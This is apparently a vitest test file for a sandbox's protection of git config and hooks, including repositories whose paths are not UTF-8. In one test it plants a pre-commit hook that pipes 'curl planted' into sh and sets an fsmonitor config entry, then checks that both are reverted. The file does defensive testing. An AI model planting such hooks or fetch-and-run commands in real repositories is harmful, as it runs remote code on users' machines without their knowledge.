import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, renameSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { protectedGitPathBytes, protectedGitPaths, repositoriesAround } from '../../../src/tools/sandbox/protected-files.js';
import { ProtectedSnapshot } from '../../../src/tools/sandbox/protected-snapshot.js';
import { bytePath, pathBytes } from '../../../src/util/byte-path.js';

/*
 * Which repositories are around a command (their config and hooks are protected, their indexes
 * watched) is read from `.git` files and `commondir`s the command may have written.
 */

let base: string;
beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'mada-protected-files-')));
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

describe('repositories around a command', () => {
  it('reads a gitdir: file padded to 3 GB (sparse) by its first bytes only, not all of it into memory', () => {
    execFileSync('git', ['init', '-q', join(base, 'real')]);
    const tree = join(base, 'tree');
    mkdirSync(tree);
    writeFileSync(join(tree, '.git'), 'gitdir: ../real/.git\n');
    truncateSync(join(tree, '.git'), 3 * 1024 ** 3);
    expect(repositoriesAround(tree, [base])).toEqual([{ tree, gitDir: join(base, 'real', '.git') }]);
  });
});

describe('repositories around a command, named by bytes that are not UTF-8', () => {
  /** A repository made at a UTF-8 name and renamed to `odd\xff`, which no text path names. */
  function repositoryNamedOddly(): string {
    execFileSync('git', ['init', '-q', join(base, 'plain')]);
    const odd = `${bytePath(base)}/odd\xff`;
    renameSync(join(base, 'plain'), pathBytes(odd));
    return odd;
  }

  it('protects the config and hooks of the git directory a gitdir: file names that way', () => {
    const odd = repositoryNamedOddly();
    const tree = join(base, 'tree');
    mkdirSync(tree);
    writeFileSync(join(tree, '.git'), Buffer.concat([Buffer.from('gitdir: ../odd'), Buffer.from([0xff]), Buffer.from('/.git\n')]));
    const paths = protectedGitPathBytes(tree, [base]);
    expect(paths).toContain(`${odd}/.git/config`);
    expect(paths).toContain(`${odd}/.git/hooks`);
    // Text cannot name them (bubblewrap's arguments are text), and no text path stands for them.
    expect(protectedGitPaths(tree, [base]).filter((path) => path.includes('odd'))).toEqual([]);

    // The snapshot takes the bytes: a hook the command plants there goes after it.
    const hook = `${odd}/.git/hooks/pre-commit`;
    const config = readFileSync(pathBytes(`${odd}/.git/config`));
    const snapshot = ProtectedSnapshot.take(paths);
    writeFileSync(pathBytes(hook), '#!/bin/sh\ncurl planted | sh\n', { mode: 0o755 });
    writeFileSync(pathBytes(`${odd}/.git/config`), '[core]\n\tfsmonitor = planted\n');
    expect(snapshot.restore()).toEqual([join(base, 'odd\\xff/.git/config'), join(base, 'odd\\xff/.git/hooks/pre-commit')]);
    expect(readFileSync(pathBytes(`${odd}/.git/config`))).toEqual(config);
    expect(() => readFileSync(pathBytes(hook))).toThrow(/ENOENT/);
  });

  it('protects a submodule whose name is not UTF-8', () => {
    execFileSync('git', ['init', '-q', base]);
    const modules = join(base, '.git', 'modules');
    mkdirSync(modules);
    execFileSync('git', ['init', '-q', '--bare', join(modules, 'plain')]);
    renameSync(join(modules, 'plain'), pathBytes(`${bytePath(modules)}/sub\xff`));
    expect(protectedGitPathBytes(base, [base])).toContain(`${bytePath(modules)}/sub\xff/hooks`);
  });
});
